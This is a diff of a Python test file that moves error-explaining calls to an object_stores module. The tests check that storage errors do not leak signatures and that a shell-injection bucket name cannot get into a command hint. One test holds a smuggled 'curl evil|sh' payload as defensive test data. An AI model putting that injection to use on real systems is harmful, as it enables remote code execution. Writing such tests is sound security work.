@@ -4,8 +4,9 @@ from pathlib import Path
 
 import pytest
 
-from newsbert.core import config, installation
-from newsbert.errors import MissingExtraError, NewsbertError, RefusedError
+from newsbert.core import config, installation, object_stores
+from newsbert.core.installation import MissingExtraError
+from newsbert.errors import NewsbertError, RefusedError
 from newsbert.tracking import foreign_errors
 
 SAID = (
@@ -40,7 +41,7 @@ SAID = (
 @pytest.mark.parametrize(("scheme", "said", "meaning", "mend"), SAID)
 def test_what_a_store_says_is_explained_without_a_secret(scheme: str, said: str, meaning: str, mend: str) -> None:
     address = f"{scheme}://models/path?X-Amz-Signature=PLANTED"
-    found = foreign_errors.store_error([OSError(said)], "it cannot be logged", address)
+    found = object_stores.store_error([OSError(said)], "it cannot be logged", address)
     assert meaning in found.message
     assert mend in (found.hint or "")
     assert isinstance(found, RefusedError) is (meaning != "cannot be reached")  # waiting mends only that
@@ -49,7 +50,7 @@ def test_what_a_store_says_is_explained_without_a_secret(scheme: str, said: str,
 
 
 def test_attack_a_bucket_with_a_name_of_the_shell_gets_into_no_command() -> None:
-    found = foreign_errors.store_error([OSError("NoSuchBucket")], "", "s3://x;curl evil|sh;#/path")
+    found = object_stores.store_error([OSError("NoSuchBucket")], "", "s3://x;curl evil|sh;#/path")
     assert "aws s3 mb s3://BUCKET" in (found.hint or "")
 
 
